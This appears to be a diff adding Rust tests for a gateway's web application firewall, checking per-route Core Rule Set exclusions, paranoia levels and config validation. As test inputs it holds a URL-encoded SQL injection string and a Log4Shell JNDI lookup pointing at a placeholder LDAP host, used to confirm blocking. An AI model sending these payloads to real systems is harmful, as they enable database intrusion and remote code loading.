@@ -185,6 +185,78 @@ async fn crs_blocks_attacks_in_every_part_and_passes_ordinary_traffic() {
     );
 }
 
+/// Routes tune the CRS their rule set runs without compiling it again:
+/// exclusions, another paranoia level, or no CRS at all.
+#[tokio::test]
+async fn routes_tune_the_crs_of_their_rule_set() {
+    if !installed() {
+        return;
+    }
+    let gh = Gatehouse::start("waf_crs", &[]);
+    use reqwest::Method;
+    let sqli = "1%27%20OR%20%271%27%3D%271";
+    let status = |path: String| {
+        let gh = &gh;
+        async move { send(gh, Method::GET, &path, &[], "").await }
+    };
+    // Exclusions for this route only: ARGS:sql is not read by 942100 and
+    // 942190 is gone here; the rule set's other routes still block.
+    assert_eq!(status(format!("/c/route-tuned/a?sql={sqli}")).await, 200);
+    assert_eq!(status(format!("/c/route-tuned/a?q={sqli}")).await, 403);
+    assert_eq!(status(format!("/c/hello?sql={sqli}")).await, 403);
+    // CRS off for a route: the rule set's managed group still runs.
+    assert_eq!(status(format!("/c/no-crs/a?q={sqli}")).await, 200);
+    assert_eq!(
+        send(
+            &gh,
+            Method::GET,
+            "/c/no-crs/a",
+            &[("x-api-version", "${jndi:ldap://x.example/a}")],
+            ""
+        )
+        .await,
+        403
+    );
+    // Paranoia 2 for a route: a bare client (no User-Agent, no Accept, a
+    // numeric Host) scores 3 at paranoia 1 (920350) and 7 at paranoia 2
+    // (920320, 920300 as well).
+    let bare = |path: &str| {
+        let url = format!("http://{}{path}", gh.addr("http"));
+        async move { reqwest::get(url).await.unwrap().status().as_u16() }
+    };
+    assert_eq!(bare("/c/hello").await, 200);
+    assert_eq!(bare("/c/pl2/a").await, 403);
+    assert_eq!(status("/c/pl2/a".into()).await, 200);
+}
+
+#[test]
+fn crs_route_settings_are_checked() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(dir.path().join("routes")).unwrap();
+    std::fs::write(
+        dir.path().join("gatehouse.yaml"),
+        "waf_rule_sets:\n  plain:\n    managed: [sqli]\n",
+    )
+    .unwrap();
+    std::fs::write(
+        dir.path().join("routes/r.yaml"),
+        "routes:\n  - path: /a\n    policies:\n      waf:\n        rule_set: plain\n        crs: {paranoia_level: 2}\n    integration:\n      mock: {}\n",
+    )
+    .unwrap();
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gatehouse"))
+        .arg("-C")
+        .arg(dir.path())
+        .arg("validate")
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success());
+    assert!(
+        stderr.contains("r.yaml:6:14: routes[0].policies.waf.crs: rule set `plain` runs no CRS"),
+        "{stderr}"
+    );
+}
+
 #[test]
 fn crs_load_errors_are_config_errors() {
     if !installed() {
